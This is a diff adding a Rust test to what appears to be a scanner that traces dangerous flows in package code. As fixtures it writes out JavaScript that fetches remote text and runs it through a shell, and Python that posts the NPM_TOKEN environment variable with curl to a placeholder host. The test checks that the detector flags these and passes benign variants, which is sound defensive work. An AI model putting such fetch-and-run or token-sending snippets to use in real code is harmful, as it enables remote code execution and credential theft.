@@ -127,3 +127,29 @@ fn what_each_row_prints_is_what_the_call_gives() {
         assert!(!sends(code, "nodes"), "{code}");
     }
 }
+
+#[test]
+fn a_row_that_is_not_known_is_not_hidden_by_one_that_is() {
+    let begin = "const { spawnSync } = require('child_process');";
+    let runs = |from: &str| {
+        let code = format!(
+            "{begin} fetch('https://a.invalid/x').then((r) => r.text()).then((t) => {{
+             for (const c of ['echo hi', {from}]) spawnSync('sh', ['-c', c]); }})"
+        );
+        let flows = found(script(&code)).flows;
+        let mut flows = flows.iter();
+        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
+    };
+    assert!(runs("t"));
+    assert!(!runs("'echo ho'"));
+    let sends = |name: &str| {
+        let code = format!(
+            "import os, subprocess\nfor a in (['curl', '-V'], ['curl', '-d', os.environ['{name}'], 'https://a.invalid']):\n    subprocess.run(a)\n"
+        );
+        let flows = found(wheel(&code)).flows;
+        let mut flows = flows.iter();
+        flows.any(|flow| flow.source == SourceKind::NamedSecret && flow.sink == SinkKind::Network)
+    };
+    assert!(sends("NPM_TOKEN"));
+    assert!(!sends("LANG"));
+}
